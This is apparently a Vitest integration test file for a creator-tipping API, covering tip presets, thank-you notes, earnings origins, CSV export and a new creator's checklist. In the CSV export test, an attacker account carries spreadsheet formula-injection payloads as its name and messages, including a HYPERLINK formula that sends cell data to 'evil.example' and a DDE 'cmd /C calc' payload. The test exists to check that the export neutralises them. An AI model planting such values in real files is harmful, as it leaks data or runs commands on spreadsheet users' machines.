// @vitest-environment node
import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { checklistResponseSchema } from '../../src/core/contract/creator-checklist';
import { creatorTipMessages } from '../../src/core/contract/creator-tips';
import { creatorLookupResponseSchema } from '../../src/core/contract/posts';
import { profileResponseSchema } from '../../src/core/contract/profile';
import { encodeBase58 } from '../../src/core/contract/solana-address';
import { solanaTipPath } from '../../src/core/contract/solana-tip-path';
import { earningListResponseSchema } from '../../src/core/contract/wallet';
import { embedTokenFor } from '../testing/embed-token';
import { uploadedPicture } from '../testing/uploaded-picture';
import { useTestApi } from '../testing/test-api';

/**
 * Issue 42, part P: a creator's tip presets and thank-you note, where each earning came from and the
 * earnings as CSV, and a new creator's checklist; through HTTP, on SQLite and (with CUPPA_TEST_POSTGRES)
 * PostgreSQL.
 */
const t = useTestApi();

const newCreator = (name: string) => t.member(name, { price: 4 });

const member = (name: string, dollars: number) => t.member(name, { dollars });

const patch = (token: string, json: unknown) => t.call('PATCH', '/v1/customer/upload/profile', { token, json });
const lookup = async (alias: string) =>
  creatorLookupResponseSchema.parse((await t.call('GET', `/v1/customer/creator/${alias}`)).body).user;
const tip = (token: string, creatorId: number, amount: number, message?: string) =>
  t.call('POST', '/v1/customer/subscriber/coffee', {
    token,
    json: { creator_id: creatorId, tip: amount, coin: 'solana', ...(message === undefined ? {} : { message }) },
    headers: { 'Idempotency-Key': randomBytes(8).toString('hex') },
  });

/** A CSV file as rows of cells (RFC 4180: quoted cells, doubled quotes, CRLF); fetch's text() drops its BOM. */
function parseCsv(body: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < body.length; i += 1) {
    const char = body[i];
    if (quoted) {
      if (char === '"' && body[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += char;
  }
  expect(cell).toBe('');
  return rows;
}

describe('tip presets and the thank-you note', () => {
  it('are 3, 5, 10 and none until set; set, they show in the creator lookup and on the profile answer', async () => {
    const creator = await newCreator('Presets');
    expect(await lookup(creator.alias)).toMatchObject({ tip_presets: [3, 5, 10], thank_you: '' });
    const set = await patch(creator.token, { tip_presets: [2, 7, 25], thank_you: '  Thank you, truly — شكرا ☕  ' });
    expect(set.status).toBe(200);
    expect(profileResponseSchema.parse(set.body).user).toMatchObject({
      tip_presets: [2, 7, 25],
      thank_you: 'Thank you, truly — شكرا ☕',
    });
    expect(await lookup(creator.alias)).toMatchObject({
      tip_presets: [2, 7, 25],
      thank_you: 'Thank you, truly — شكرا ☕',
    });
    const me = await t.call('GET', '/v1/customer/me', { token: creator.token });
    expect(me.body.user).toMatchObject({ tip_presets: [2, 7, 25] });
    // A patch of something else keeps them; an empty note removes the note.
    await patch(creator.token, { about: 'Tide tables' });
    await patch(creator.token, { thank_you: '' });
    expect(await lookup(creator.alias)).toMatchObject({ tip_presets: [2, 7, 25], thank_you: '' });
  });

  it('refuse what a tip could not be, naming the field, and keep what was there', async () => {
    const creator = await newCreator('Strict');
    await patch(creator.token, { tip_presets: [4, 8, 12], thank_you: 'Cheers' });
    const refusals: [unknown, string, string][] = [
      [{ tip_presets: [3, 5] }, 'tip_presets', creatorTipMessages.presetCount],
      [{ tip_presets: [3, 5, 10, 20] }, 'tip_presets', creatorTipMessages.presetCount],
      [{ tip_presets: '3,5,10' }, 'tip_presets', creatorTipMessages.presetCount],
      [{ tip_presets: [3, 5.5, 10] }, 'tip_presets.1', creatorTipMessages.presetWhole],
      [{ tip_presets: [0, 5, 10] }, 'tip_presets.0', creatorTipMessages.presetMin],
      [{ tip_presets: [3, -5, 10] }, 'tip_presets.1', creatorTipMessages.presetMin],
      [{ tip_presets: [3, 5, 10_001] }, 'tip_presets.2', creatorTipMessages.presetMax],
      [{ tip_presets: [3, null, 10] }, 'tip_presets.1', creatorTipMessages.presetRequired],
      [{ tip_presets: [5, 3, 5] }, 'tip_presets.2', creatorTipMessages.presetRepeated],
      [{ thank_you: 'x'.repeat(281) }, 'thank_you', creatorTipMessages.thankYouLong],
      [{ thank_you: 42 }, 'thank_you', 'Invalid input: expected string, received number'],
    ];
    for (const [json, field, message] of refusals) {
      const refused = await patch(creator.token, json);
      expect({ json, status: refused.status, code: refused.body.code }).toEqual({
        json,
        status: 400,
        code: 'invalid_input',
      });
      expect({ json, message: refused.body.fields?.[field] }).toEqual({ json, message });
    }
    // 280 characters are a note, counted as a reader counts them (an emoji is one).
    expect((await patch(creator.token, { thank_you: '☕'.repeat(280) })).status).toBe(200);
    expect(await lookup(creator.alias)).toMatchObject({ tip_presets: [4, 8, 12], thank_you: '☕'.repeat(280) });
  });
});

describe('earnings: where each came from, and as CSV', () => {
  it('say the site a widget paid on, or null in the app, and balance or USDC', async () => {
    const creator = await newCreator('Origins');
    const reader = await member('Reader', 50);
    expect((await tip(reader.token, creator.id, 3, 'From the app')).status).toBe(201);
    const onBlog = await embedTokenFor(t, reader.id, 'https://blog.example');
    expect((await tip(onBlog, creator.id, 5, 'From the blog')).status).toBe(201);
    const subscribed = await t.call('POST', '/v1/customer/subscriber/subscribe', {
      token: onBlog,
      json: { creator_id: creator.id, coin: 'solana' },
      headers: { 'Idempotency-Key': randomBytes(8).toString('hex') },
    });
    expect(subscribed.status).toBe(201);
    // A reader without an account pays in USDC from their own wallet (the crypto tab).
    const reference = encodeBase58(randomBytes(32));
    await t.call('POST', '/v1/solana/tip-intent', { json: { creator: creator.alias, reference, amount: 2 } });
    await t.call('POST', '/v1/dev/transfer', { json: { reference, address: creator.address, amount: 2 } });
    await patch(creator.token, { thank_you: 'Thank you for the coffee' });
    // The crypto tab's receipt shows the creator's note too: the status that confirms the tip carries it.
    expect((await t.call('GET', solanaTipPath(reference, creator.alias))).body).toMatchObject({
      status: 'confirmed',
      amount: 2,
      thank_you: 'Thank you for the coffee',
    });

    const page = earningListResponseSchema.parse(
      (await t.call('GET', '/v1/customer/earnings', { token: creator.token })).body,
    );
    expect(
      page.earnings.map(({ type, amount, coin, site, message }) => ({ type, amount, coin, site, message })),
    ).toEqual([
      { type: 'tip', amount: 2, coin: 'usdc', site: null, message: null },
      { type: 'subscription', amount: 4, coin: 'balance', site: 'https://blog.example', message: null },
      { type: 'tip', amount: 5, coin: 'balance', site: 'https://blog.example', message: 'From the blog' },
      { type: 'tip', amount: 3, coin: 'balance', site: null, message: 'From the app' },
    ]);
  });

  it('export every earning with the same totals as the page, and a hostile name or message stays text', async () => {
    const creator = await newCreator('Books');
    // An attacker's name and messages, written to run in the creator's spreadsheet.
    const { token: attackerToken, user: attacker } = await t.signUp('Mallory');
    await patch(attackerToken, { first_name: '=HYPERLINK("https://evil.example?"&A1,"Open")', last_name: '"Quoted"' });
    await t.deposit(attackerToken, 100);
    const hostile = [
      '=1+2',
      '+SUM(A1:A9)',
      '-2+3',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '\t=tab',
      '\r=carriage',
      '  =spaced',
      '＝fullwidth',
      'a "quoted", comma\nand a new line',
    ];
    for (const message of hostile) expect((await tip(attackerToken, creator.id, 1, message)).status).toBe(201);
    const onBlog = await embedTokenFor(t, attacker.id as number, 'https://blog.example');
    expect((await tip(onBlog, creator.id, 7)).status).toBe(201);
    // More than a page: the export holds every earning, not the first ten.
    const reader = await member('Many', 100);
    for (let i = 0; i < 6; i += 1) expect((await tip(reader.token, creator.id, 2 + i)).status).toBe(201);

    const page = earningListResponseSchema.parse(
      (await t.call('GET', '/v1/customer/earnings', { token: creator.token })).body,
    );
    const file = await t.call<string>('GET', '/v1/customer/earnings?format=csv', { token: creator.token });
    expect(file.status).toBe(200);
    const bytes = await fetch(`${t.api.apiBase}/v1/customer/earnings?format=csv`, {
      headers: { Authorization: `Bearer ${creator.token}` },
    }).then((answer) => answer.arrayBuffer());
    // A byte-order mark first, so a spreadsheet reads the names and messages as UTF-8.
    expect([...new Uint8Array(bytes).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(file.headers.get('content-disposition')).toMatch(
      new RegExp(`^attachment; filename="cuppa-earnings-${creator.alias}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    );
    const [header, ...rows] = parseCsv(file.body);
    expect(header).toEqual(['id', 'date', 'type', 'amount', 'coin', 'site', 'from', 'from_name', 'message']);
    expect(rows).toHaveLength(page.total);
    expect(rows).toHaveLength(hostile.length + 7);
    const cell = (row: string[], name: string) => row[header?.indexOf(name) ?? -1] ?? '';
    const cents = (list: string[][]) =>
      list.reduce((sum, row) => sum + Math.round(Number(cell(row, 'amount')) * 100), 0);
    expect(cents(rows) / 100).toBe(page.sum);
    expect(cents(rows.filter((row) => cell(row, 'type') === 'tip')) / 100).toBe(page.by_type.tip);
    for (const row of rows) {
      expect(cell(row, 'date')).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      expect(cell(row, 'amount')).toMatch(/^\d+\.\d{2}$/);
      // No cell a spreadsheet would run: none starts with a formula sign, or with a tab or return.
      for (const value of row) expect(value).not.toMatch(/^[\s\u00a0]*[=+\-@＝＋－＠]/);
    }
    const messages = rows.map((row) => cell(row, 'message')).filter(Boolean);
    expect(messages).toEqual([
      "'=1+2",
      "'+SUM(A1:A9)",
      "'-2+3",
      `'@SUM(1+1)*cmd|" /C calc"!A0`,
      // The API trims a message: what reaches the file starts with the sign.
      "'=tab",
      "'=carriage",
      "'=spaced",
      "'＝fullwidth",
      'a "quoted", comma\nand a new line',
    ]);
    const mallory = rows.find((row) => cell(row, 'from') === attacker.alias);
    expect(cell(mallory ?? [], 'from_name')).toBe(`'=HYPERLINK("https://evil.example?"&A1,"Open") "Quoted"`);
    expect(rows.filter((row) => cell(row, 'site') === 'https://blog.example')).toHaveLength(1);
    expect(rows.every((row) => cell(row, 'coin') === 'balance')).toBe(true);
  });

  it('as CSV are the caller’s own only, and need a session', async () => {
    const creator = await newCreator('Private');
    const reader = await member('Peek', 20);
    await tip(reader.token, creator.id, 3, 'for the creator only');
    expect((await t.call('GET', '/v1/customer/earnings?format=csv')).status).toBe(401);
    const theirs = parseCsv(
      (await t.call<string>('GET', '/v1/customer/earnings?format=csv', { token: reader.token })).body,
    );
    expect(theirs).toHaveLength(1);
    expect((await t.call('GET', '/v1/customer/earnings?format=xml', { token: creator.token })).status).toBe(400);
    const onBlog = await embedTokenFor(t, creator.id, 'https://blog.example');
    expect((await t.call('GET', '/v1/customer/earnings?format=csv', { token: onBlog })).body.code).toBe('embed_scope');
  });
});

describe('a new creator’s checklist', () => {
  const checklist = async (token: string) =>
    checklistResponseSchema.parse((await t.call('GET', '/v1/creator/checklist', { token })).body).checklist;

  it('ticks each step as the data says so, and the snippet once the widgets asked from another site', async () => {
    const { token, user } = await t.signUp('Newcomer');
    expect(await checklist(token)).toEqual({
      done: { price: false, picture: false, about: false, snippet: false, first_post: false },
      site: null,
    });
    await patch(token, { subscription_amount: 3 });
    expect((await checklist(token)).done).toMatchObject({ price: true, picture: false });
    await patch(token, { image: await uploadedPicture(t, token) });
    await patch(token, { about: '   ' });
    expect((await checklist(token)).done).toMatchObject({ picture: true, about: false });
    await patch(token, { about: 'I draw tide tables' });
    expect((await checklist(token)).done).toMatchObject({ about: true, snippet: false });

    // The app (same site as the API) and the app's server (no Origin) looking the creator up tick nothing.
    await t.call('GET', `/v1/customer/creator/${user.alias}`);
    await t.call('GET', `/v1/customer/creator/${user.alias}`, {
      headers: { Origin: 'https://app.example', 'Sec-Fetch-Site': 'same-site' },
    });
    await t.call('GET', `/v1/customer/creator/${user.alias}`, {
      headers: { Origin: 'null', 'Sec-Fetch-Site': 'cross-site' },
    });
    expect(await checklist(token)).toMatchObject({ done: { snippet: false }, site: null });
    // A page on the creator's blog: the widgets look them up from there.
    await t.call('GET', `/v1/customer/creator/${user.alias}`, {
      headers: { Origin: 'https://blog.example', 'Sec-Fetch-Site': 'cross-site' },
    });
    await t.call('GET', `/v1/customer/creator/${user.alias}`, {
      headers: { Origin: 'https://later.example', 'Sec-Fetch-Site': 'cross-site' },
    });
    expect(await checklist(token)).toMatchObject({
      done: { snippet: true, first_post: false },
      site: 'https://blog.example',
    });

    const post = await t.call('POST', '/v1/creator/post', {
      token,
      json: { text: 'Hello, readers', media: [], visibility: 'public' },
    });
    expect(post.status).toBe(201);
    expect((await checklist(token)).done).toEqual({
      price: true,
      picture: true,
      about: true,
      snippet: true,
      first_post: true,
    });
    expect((await t.call('GET', '/v1/creator/checklist')).status).toBe(401);
  });
});
